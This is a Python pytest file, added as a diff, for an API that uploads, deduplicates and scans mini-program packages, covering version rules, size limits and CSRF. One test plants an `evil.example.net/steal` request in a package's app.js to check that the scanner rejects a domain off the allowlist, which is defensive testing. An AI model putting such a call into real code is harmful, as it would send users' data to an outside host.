@@ -1,0 +1,343 @@
+"""POST/GET /api/v1/programs/{appid}/versions/ and GET …/versions/{version}/: upload, dedupe, scan report."""
+
+import hashlib
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.middleware.csrf import _get_new_csrf_string
+from rest_framework.test import APIClient
+
+from console.models import AuditEvent
+from programs.models import Version
+from programs.tests.factories import VersionFactory, scannable_program, upload
+from programs.tests.packages import build_package
+
+MISSING_PAGE = {"pages": ["pages/index/index", "pages/profile/profile", "pages/ghost/ghost"]}
+
+
+@pytest.fixture
+def program(org):
+    return scannable_program(org, name="Acme Maps")
+
+
+@pytest.fixture
+def post(api_with_key, program):
+    """Upload through the API key; returns the response (the scan does not run: nothing commits)."""
+
+    def _post(data: bytes, version: str = "1.0.0", *, client=None, **extra):
+        body = {"package": upload(data), "version": version, **extra}
+        return (client or api_with_key).post(versions_url(program), body, format="multipart")
+
+    return _post
+
+
+@pytest.fixture
+def post_and_scan(post, django_capture_on_commit_callbacks):
+    """Upload and run the eager scan that the commit triggers."""
+
+    def _post(*args, **kwargs):
+        with django_capture_on_commit_callbacks(execute=True) as callbacks:
+            response = post(*args, **kwargs)
+        return response, callbacks
+
+    return _post
+
+
+def versions_url(program) -> str:
+    return f"/api/v1/programs/{program.appid}/versions/"
+
+
+def version_url(program, version: str) -> str:
+    return f"{versions_url(program)}{version}/"
+
+
+def _fields(response, status: int = 400, code: str = "invalid") -> dict:
+    assert response.status_code == status, response.content
+    error = response.json()["error"]
+    assert error["code"] == code
+    assert error["message"]
+    return error["fields"]
+
+
+def _stored_files() -> list[Path]:
+    root = Path(settings.MEDIA_ROOT)
+    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []
+
+
+# ---------------------------------------------------------------- accepted uploads
+
+
+def test_upload_is_202_with_the_versions_url_and_stores_the_package(post, program, owner, owner_key):
+    data = build_package("alipay")
+    response = post(data, "1.0.0", description=" First drop ")
+    assert response.status_code == 202, response.content
+    body = response.json()
+    assert body["url"] == f"http://testserver{version_url(program, '1.0.0')}"
+    assert response["Location"] == body["url"]
+    assert (body["version"], body["status"], body["description"]) == ("1.0.0", "uploaded", "First drop")
+    assert body["package_sha256"] == hashlib.sha256(data).hexdigest()
+    assert (body["package_size"], body["uploaded_by"], body["upload_method"]) == (len(data), owner.email, "api")
+    version = Version.objects.get(program=program)
+    assert version.api_key == owner_key[0]
+    assert version.package.name == f"packages/{program.appid}/{body['package_sha256']}.zip"
+    with version.package.open("rb") as f:
+        assert f.read() == data
+
+
+def test_upload_records_an_audit_event(post, program, owner_key):
+    data = build_package("alipay")
+    post(data, "1.2.3", method="cli")
+    event = AuditEvent.objects.get(action="version.upload")
+    assert event.organisation == program.organisation
+    assert event.actor_label.startswith(f"API key {owner_key[0].prefix}")
+    assert event.after == {"version": "1.2.3", "sha256": hashlib.sha256(data).hexdigest(), "size": len(data),
+                           "method": "cli"}
+
+
+def test_a_valid_package_is_ready_after_the_eager_scan(post_and_scan, api_with_key, program):
+    response, callbacks = post_and_scan(build_package("wechat"), "1.0.0")
+    assert response.status_code == 202
+    assert len(callbacks) == 1
+    body = api_with_key.get(response["Location"]).json()
+    assert body["status"] == "ready"
+    assert body["scan"]["progress"] == 100
+    assert body["scan"]["done"] is True
+    assert body["scan"]["attempts"] == 1
+    report = body["report"]
+    assert (report["dialect"], report["errors"]) == ("wechat", 0)
+    assert {"errors", "warnings", "notices", "findings", "sizes", "risk"} <= set(report)
+    assert report["sizes"]["main"] > 0
+    assert set(report["sizes"]["subpackages"]) == {"packageA/"}
+    assert report["sizes"]["full"] == report["sizes"]["main"] + report["sizes"]["subpackages"]["packageA/"]
+    assert isinstance(report["risk"]["score"], int)
+    assert isinstance(report["risk"]["breakdown"], list)
+
+
+def test_a_broken_package_is_scan_failed_with_located_findings(post_and_scan, api_with_key, program):
+    response, _callbacks = post_and_scan(build_package("alipay", app_json=MISSING_PAGE), "1.0.0")
+    body = api_with_key.get(response["Location"]).json()
+    assert body["status"] == "scan_failed"
+    report = body["report"]
+    assert report["errors"] >= 1
+    assert report["errors"] == sum(1 for f in report["findings"] if f["severity"] == "error")
+    finding = next(f for f in report["findings"] if f["code"] == "structure.page_missing_template")
+    assert set(finding) >= {"code", "severity", "message", "file", "line", "column"}
+    assert finding["severity"] == "error"
+    assert "ghost" in finding["message"]
+
+
+def test_a_domain_off_the_programs_allowlist_fails_the_scan(post_and_scan, api_with_key, program):
+    code = "\nmy.request({ url: 'https://evil.example.net/steal' });\n"
+    response, _callbacks = post_and_scan(build_package("alipay", code=code), "1.0.0")
+    report = api_with_key.get(response["Location"]).json()["report"]
+    assert [f["code"] for f in report["findings"] if f["severity"] == "error"] == ["network.not_allowed"]
+    assert report["findings"][0]["file"] == "app.js"
+
+
+def test_the_version_detail_shows_progress_before_the_scan(post, api_with_key, program):
+    response = post(build_package("alipay"), "1.0.0")
+    body = api_with_key.get(response["Location"]).json()
+    assert body["status"] == "uploaded"
+    assert body["scan"] == {"progress": 0, "stage": "", "attempts": 0, "started_at": None, "finished_at": None,
+                            "done": False}
+    assert body["report"] is None
+
+
+def test_the_versions_list_is_paginated_newest_first(api_with_key, program):
+    VersionFactory(program=program, version="1.0.0")
+    VersionFactory(program=program, version="1.1.0")
+    body = api_with_key.get(versions_url(program)).json()
+    assert body["count"] == 2
+    assert [v["version"] for v in body["results"]] == ["1.1.0", "1.0.0"]
+
+
+# ---------------------------------------------------------------- identical packages
+
+
+def test_an_identical_package_is_answered_with_the_same_version(post, program):
+    data = build_package("alipay")
+    first = post(data, "1.0.0")
+    again = post(data, "2.0.0")
+    assert (first.status_code, again.status_code) == (202, 200)
+    assert again.json()["url"] == first.json()["url"]
+    assert again["Location"] == first["Location"]
+    assert list(program.versions.values_list("version", flat=True)) == ["1.0.0"]
+    assert AuditEvent.objects.filter(action="version.upload").count() == 1
+
+
+def test_the_same_package_may_be_uploaded_to_two_programs(post, api_with_key, org, program):
+    other = scannable_program(org, name="Other App")
+    data = build_package("alipay")
+    assert post(data).status_code == 202
+    response = api_with_key.post(versions_url(other), {"package": upload(data), "version": "1.0.0"},
+                                 format="multipart")
+    assert response.status_code == 202
+    assert Version.objects.count() == 2
+
+
+# ---------------------------------------------------------------- version strings
+
+
+def test_a_lower_version_is_refused_with_a_field_error(post, program):
+    assert post(build_package("alipay"), "1.0.0").status_code == 202
+    fields = _fields(post(build_package("alipay", code="// 2"), "0.9.0"))
+    assert fields == {"version": ["The version must be higher than 1.0.0."]}
+    assert program.versions.count() == 1
+
+
+def test_the_same_version_with_another_package_is_refused(post, program):
+    post(build_package("alipay"), "1.0.0")
+    fields = _fields(post(build_package("alipay", code="// 2"), "1.0"))
+    assert list(fields) == ["version"]
+
+
+def test_a_pre_release_sorts_before_its_release(post, program):
+    assert post(build_package("alipay"), "1.0.0-beta.1").status_code == 202
+    assert post(build_package("alipay", code="// 2"), "1.0.0-beta.2").status_code == 202
+    assert post(build_package("alipay", code="// 3"), "1.0.0").status_code == 202
+    assert list(_fields(post(build_package("alipay", code="// 4"), "1.0.0-rc.1"))) == ["version"]
+    assert sorted(program.versions.values_list("version", flat=True)) == ["1.0.0", "1.0.0-beta.1", "1.0.0-beta.2"]
+
+
+@pytest.mark.parametrize("version", ["v1.0", "1.0.0.0.0", "", "1..2", "1.0-", "latest"])
+def test_a_malformed_version_string_is_refused(post, program, version):
+    assert list(_fields(post(build_package("alipay"), version))) == ["version"]
+    assert not program.versions.exists()
+
+
+def test_a_failed_scans_version_string_may_be_reused(post_and_scan, api_with_key, program):
+    broken, _ = post_and_scan(build_package("alipay", app_json=MISSING_PAGE), "1.0.0")
+    assert api_with_key.get(broken["Location"]).json()["status"] == "scan_failed"
+    fixed, _ = post_and_scan(build_package("alipay"), "1.0.0")
+    assert fixed.status_code == 202
+    assert api_with_key.get(fixed["Location"]).json()["status"] == "ready"
+    assert list(program.versions.values_list("status", flat=True)) == ["ready"]
+
+
+def test_a_failed_scan_does_not_raise_the_bar_for_the_next_version(post_and_scan, program):
+    post_and_scan(build_package("alipay", app_json=MISSING_PAGE), "2.0.0")
+    response, _ = post_and_scan(build_package("alipay"), "1.0.0")
+    assert response.status_code == 202
+    assert program.versions.get(version="1.0.0").status == Version.Status.READY
+
+
+# ---------------------------------------------------------------- size limits
+
+
+@pytest.fixture
+def small_limit(org):
+    org.max_package_bytes = 4000
+    org.save()
+    return org.max_package_bytes
+
+
+def test_a_package_over_the_orgs_limit_is_413_and_nothing_is_stored(post, program, small_limit):
+    data = build_package("alipay")
+    assert len(data) > small_limit
+    response = post(data, "1.0.0")
+    assert _fields(response, 413, "package_too_large") == {}
+    assert "upload limit" in response.json()["error"]["message"]
+    assert not Version.objects.exists()
+    assert _stored_files() == []
+    assert not AuditEvent.objects.filter(action="version.upload").exists()
+
+
+def test_a_package_within_the_orgs_own_limit_is_accepted(post, program, small_limit):
+    assert post(b"PK\x05\x06" + b"\x00" * 18, "1.0.0").status_code == 202
+
+
+def test_a_declared_content_length_over_the_limit_is_413_before_the_body_is_read(api_with_key, program, small_limit):
+    body = {"package": upload(b"PK\x05\x06" + b"\x00" * 18), "version": "1.0.0"}
+    response = api_with_key.post(versions_url(program), body, format="multipart", CONTENT_LENGTH=str(10 * 1024**3))
+    assert _fields(response, 413, "package_too_large") == {}
+    assert not Version.objects.exists()
+    assert _stored_files() == []
+
+
+def test_the_platform_limit_applies_without_an_org_override(post, program, settings):
+    settings.PACKAGE_UPLOAD_MAX_BYTES = 5000
+    assert _fields(post(build_package("alipay")), 413, "package_too_large") == {}
+    assert not Version.objects.exists()
+
+
+# ---------------------------------------------------------------- malformed requests
+
+
+def test_a_missing_package_is_a_400(api_with_key, program):
+    fields = _fields(api_with_key.post(versions_url(program), {"version": "1.0.0"}, format="multipart"))
+    assert list(fields) == ["package"]
+
+
+def test_a_missing_version_is_a_400(api_with_key, program):
+    response = api_with_key.post(versions_url(program), {"package": upload(b"PK")}, format="multipart")
+    assert list(_fields(response)) == ["version"]
+    assert not Version.objects.exists()
+
+
+def test_a_package_sent_as_text_is_a_400(api_with_key, program):
+    response = api_with_key.post(versions_url(program), {"package": "not a file", "version": "1.0.0"},
+                                 format="multipart")
+    assert list(_fields(response)) == ["package"]
+
+
+def test_a_json_body_is_refused_as_unsupported_media_type(api_with_key, program):
+    response = api_with_key.post(versions_url(program), {"version": "1.0.0"}, format="json")
+    assert _fields(response, 415, "unsupported_media_type") == {}
+
+
+def test_malformed_json_is_refused_with_the_error_shape(api_with_key, program):
+    response = api_with_key.post(versions_url(program), data=b'{"version": ', content_type="application/json")
+    assert _fields(response, 415, "unsupported_media_type") == {}
+    assert not Version.objects.exists()
+
+
+def test_a_form_post_without_a_file_is_a_400(api_with_key, program):
+    response = api_with_key.post(versions_url(program), data="version=1.0.0",
+                                 content_type="application/x-www-form-urlencoded")
+    assert list(_fields(response)) == ["package"]
+
+
+def test_a_broken_multipart_body_is_a_400(api_with_key, program):
+    response = api_with_key.post(versions_url(program), data=b"--nope\r\ngarbage",
+                                 content_type="multipart/form-data; boundary=other")
+    assert response.status_code == 400
+    assert response.json()["error"]["code"] in {"parse_error", "invalid"}
+    assert not Version.objects.exists()
+
+
+# ---------------------------------------------------------------- through the session (the browser's way)
+
+
+def test_a_developer_uploads_through_the_session_with_a_csrf_token(member, program):
+    client = APIClient(enforce_csrf_checks=True)
+    client.force_login(member)
+    token = _get_new_csrf_string()
+    client.cookies[settings.CSRF_COOKIE_NAME] = token
+    data = build_package("alipay")
+    response = client.post(versions_url(program), {"package": upload(data), "version": "1.0.0"},
+                           format="multipart", HTTP_X_CSRFTOKEN=token)
+    assert response.status_code == 202, response.content
+    version = program.versions.get()
+    assert (version.uploaded_by, version.api_key, version.package_sha256) == (
+        member, None, hashlib.sha256(data).hexdigest())
+
+
+def test_a_session_upload_without_a_csrf_token_is_403(member, program):
+    client = APIClient(enforce_csrf_checks=True)
+    client.force_login(member)
+    response = client.post(versions_url(program), {"package": upload(b"PK"), "version": "1.0.0"}, format="multipart")
+    assert response.status_code == 403
+    assert "CSRF" in response.json()["error"]["message"]
+    assert not Version.objects.exists()
+
+
+def test_a_session_upload_over_the_limit_is_413(member, program, small_limit):
+    client = APIClient(enforce_csrf_checks=True)
+    client.force_login(member)
+    token = _get_new_csrf_string()
+    client.cookies[settings.CSRF_COOKIE_NAME] = token
+    response = client.post(versions_url(program), {"package": upload(build_package("alipay")), "version": "1.0.0"},
+                           format="multipart", HTTP_X_CSRFTOKEN=token)
+    assert _fields(response, 413, "package_too_large") == {}
+    assert not Version.objects.exists()
